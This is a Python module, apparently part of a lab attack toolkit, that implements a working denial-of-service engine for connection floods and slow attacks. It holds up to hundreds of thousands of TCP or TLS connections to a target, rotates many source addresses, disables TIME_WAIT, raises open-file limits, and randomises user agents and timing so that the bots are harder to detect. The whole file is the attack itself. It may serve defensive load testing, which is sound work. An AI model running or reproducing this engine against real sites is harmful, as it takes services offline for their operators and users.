"""Bots that open connections and hold them, speak little, or leave early: what the floods of connections and
the slow attacks have in common. The rim.

One thread and epoll, because a connection that does nothing must cost its bot nothing. A unit is a
connection that was dialled; ``answered`` are those that came to stand (with TLS, where TLS is spoken; for one
that leaves at the first answer: that were answered). The rate is kept whatever the site does.
"""

from __future__ import annotations

import contextlib
import errno
import heapq
import itertools
import random
import resource
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum, auto

from pydantic import Field, field_validator

from rempart.lab.attacks.bots import AGENTS, addresses
from rempart.lab.attacks.contract import AttackParameters, Order, Sources
from rempart.lab.attacks.reporting import Pacing, Tally

DIALLED_AT_ONCE = 32
"""So many are dialled before those that stand are looked after again."""
IDLE_S = 0.002
DISCARD_AT_ONCE = 1 << 16
SPARE_FILES = 64

_IP_BIND_ADDRESS_NO_PORT = 24
_LEAVES_AT_ONCE = struct.pack("ii", 1, 0)


class DialParameters(AttackParameters):
    """What every attack by connections can be told."""

    at_once: int = Field(default=50_000, ge=1, le=500_000)
    """Connections held at most; while there are so many, no more are dialled."""
    hold_s: float = Field(default=600.0, ge=0)
    """How long a connection that stands is held, if the site lets it."""
    patience_s: float = Field(default=10.0, gt=0)
    """How long one that does not come to stand is waited for."""

    @field_validator("sources")
    @classmethod
    def _real(cls, sources: Sources) -> Sources:
        if sources is Sources.SPOOFED:
            raise ValueError("a connection needs a source that answers come back to: prefixes or few")
        return sources


@dataclass(frozen=True, slots=True)
class Manner:
    """How a bot behaves on a connection that stands."""

    context: ssl.SSLContext | None = None
    """Speaks TLS, with this; otherwise TCP alone."""
    first: Callable[[random.Random], bytes] = lambda chosen: b""
    """Sent at once."""
    more: Callable[[random.Random], bytes] | None = None
    """Sent at every turn."""
    turn_s: float = 0.0
    """From one turn to the next, on average; 0: there are none."""
    reads: int = 0
    """Octets read at a turn, and nothing in between; 0: all that comes is read and thrown away."""
    receive_buffer: int = 0
    """The socket's, in octets: how much the site may send ahead of what is read; 0: as usual."""
    awaits: bytes | None = None
    """Leaves at the first thing that comes; it was answered if that begins so. None: stays."""


class _State(Enum):
    CONNECTING = auto()
    SHAKING_HANDS = auto()
    STANDING = auto()
    GONE = auto()


@dataclass(slots=True, eq=False)
class _Line:
    """One connection."""

    socket: socket.socket
    number: int
    """Its file descriptor, also after it was closed."""
    state: _State
    due: float
    """When the clock looks at it next."""
    ends: float = float("inf")
    secured: ssl.SSLSocket | None = None
    """The same socket, once it speaks TLS."""


class Dialler:
    """Carries out one attack by connections."""

    def __init__(self, order: Order, parameters: DialParameters, manner: Manner, tally: Tally) -> None:
        self._order, self._parameters, self._manner, self._tally = order, parameters, manner, tally
        # Who dials depends on nothing but the seed; what is said later comes as the site lets it come.
        self._dialling, self._chosen = random.Random(f"dialling {order.seed}"), random.Random(order.seed)
        self._sources = addresses(order, parameters, self._dialling)
        self._poll = select.epoll()
        self._lines: dict[int, _Line] = {}
        self._clock: list[tuple[float, int, _Line]] = []
        self._numbers = itertools.count()
        allow_files(parameters.at_once + SPARE_FILES)

    def run(self) -> None:
        """Until the order is over; then all hang up."""
        pacing = Pacing(self._order, self._parameters.rate, self._parameters.on_s, self._parameters.off_s)
        try:
            while not pacing.over(now := time.monotonic()):
                self._tally.maybe_write(now)
                missing = min(
                    pacing.due(now) - self._tally.units, self._parameters.at_once - len(self._lines)
                )
                for _ in range(min(missing, DIALLED_AT_ONCE)):
                    self._dial(now)
                self._look_at_events(0 if missing > DIALLED_AT_ONCE else IDLE_S)
                self._look_at_clock(time.monotonic())
        finally:
            for line in list(self._lines.values()):
                self._hang_up(line)
            self._poll.close()

    def _dial(self, now: float) -> None:
        source = self._dialling.choice(self._sources)
        v6 = ":" in source
        plain = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_STREAM)
        plain.setblocking(False)
        # The port is chosen when the far end is known, so that one address can have many connections.
        plain.setsockopt(socket.IPPROTO_IP, _IP_BIND_ADDRESS_NO_PORT, 1)
        # Who leaves says no goodbye, and keeps no port in TIME_WAIT.
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _LEAVES_AT_ONCE)
        if self._manner.receive_buffer:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self._manner.receive_buffer)
        target = self._order.target
        try:
            plain.bind((source, 0))
            outcome = plain.connect_ex((target.v6 if v6 else target.v4, target.https_port))
        except OSError:
            outcome = errno.EADDRNOTAVAIL
        if outcome not in (0, errno.EINPROGRESS):
            # Nothing left: an address had no port to spare. Another is dialled in its place.
            plain.close()
            return
        self._tally.units += 1
        line = _Line(plain, plain.fileno(), _State.CONNECTING, 0.0)
        self._lines[line.number] = line
        self._poll.register(line.number, select.EPOLLOUT)
        self._remind(line, now + self._parameters.patience_s)

    def _remind(self, line: _Line, when: float) -> None:
        line.due = when
        heapq.heappush(self._clock, (when, next(self._numbers), line))

    def _look_at_events(self, timeout: float) -> None:
        for number, event in self._poll.poll(timeout):
            line = self._lines.get(number)
            if line is None:
                continue
            try:
                if event & (select.EPOLLERR | select.EPOLLHUP):
                    self._hang_up(line)
                elif line.state is _State.CONNECTING:
                    self._connected(line)
                elif line.state is _State.SHAKING_HANDS and line.secured is not None:
                    self._shake_hands(line, line.secured)
                elif event & select.EPOLLIN:
                    self._read_away(line)
                else:
                    self._hang_up(line)  # the site has said goodbye
            except OSError:  # ssl.SSLError is one
                self._hang_up(line)

    def _look_at_clock(self, now: float) -> None:
        while self._clock and self._clock[0][0] <= now:
            when, _, line = heapq.heappop(self._clock)
            if line.state is _State.GONE or when != line.due:
                continue
            if line.state is not _State.STANDING or now >= line.ends:
                self._hang_up(line)
                continue
            try:
                self._take_turn(line)
            except OSError:
                self._hang_up(line)
            else:
                self._remind_of_turn(line, now)

    def _connected(self, line: _Line) -> None:
        context = self._manner.context
        if context is None:
            self._stands(line)
            return
        line.secured = line.socket = context.wrap_socket(
            line.socket, do_handshake_on_connect=False, server_hostname=self._order.target.host
        )
        line.state = _State.SHAKING_HANDS
        self._shake_hands(line, line.secured)

    def _shake_hands(self, line: _Line, secured: ssl.SSLSocket) -> None:
        try:
            secured.do_handshake()
        except ssl.SSLWantReadError:
            self._poll.modify(line.number, select.EPOLLIN)
        except ssl.SSLWantWriteError:
            self._poll.modify(line.number, select.EPOLLOUT)
        else:
            self._stands(line)

    def _stands(self, line: _Line) -> None:
        now = time.monotonic()
        line.state = _State.STANDING
        line.ends = now + self._parameters.hold_s
        awaited = self._manner.awaits is not None
        self._tally.answered += not awaited
        self._poll.modify(line.number, select.EPOLLRDHUP | (0 if self._manner.reads else select.EPOLLIN))
        if first := self._manner.first(self._chosen):
            line.socket.send(first)
        if awaited:
            line.ends = now + self._parameters.patience_s
            self._remind(line, line.ends)
        elif self._parameters.hold_s == 0:
            self._hang_up(line)
        else:
            self._remind_of_turn(line, now)

    def _remind_of_turn(self, line: _Line, now: float) -> None:
        turn = self._manner.turn_s
        # A clock that all bots share would be seen by anyone who counts.
        self._remind(line, min(line.ends, now + turn * (0.5 + self._chosen.random())) if turn else line.ends)

    def _take_turn(self, line: _Line) -> None:
        if self._manner.more is not None:
            with contextlib.suppress(ssl.SSLWantWriteError, BlockingIOError):
                line.socket.send(self._manner.more(self._chosen))
        if self._manner.reads and self._received(line, self._manner.reads) == b"":
            self._hang_up(line)

    def _read_away(self, line: _Line) -> None:
        got, awaits = self._received(line, DISCARD_AT_ONCE), self._manner.awaits
        if got and awaits is not None:
            self._tally.answered += got.startswith(awaits)
        if got == b"" or (got and awaits is not None):
            self._hang_up(line)

    def _received(self, line: _Line, most: int) -> bytes | None:
        """What has come; nothing at the end, None when there is nothing yet."""
        try:
            return line.socket.recv(most)
        except (ssl.SSLWantReadError, BlockingIOError):
            return None

    def _hang_up(self, line: _Line) -> None:
        if line.state is not _State.GONE:
            line.state = _State.GONE
            del self._lines[line.number]
            with contextlib.suppress(OSError):
                line.socket.close()


def allow_files(count: int) -> None:
    """Let this process have so many open files, or as many as it may. Root may have more than its limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft >= count:
        return
    for limits in ((count, max(hard, count)), (min(count, hard), hard)):
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, limits)
            return


def request_head(order: Order, chosen: random.Random, method: str, path: str, *fields: str) -> bytes:
    """The beginning of a request, up to the line before the empty one."""
    host, agent = f"Host: {order.target.host}", f"User-Agent: {chosen.choice(AGENTS)}"
    lines = (f"{method} {path} HTTP/1.1", host, agent, *fields)
    return "".join(f"{line}\r\n" for line in lines).encode()
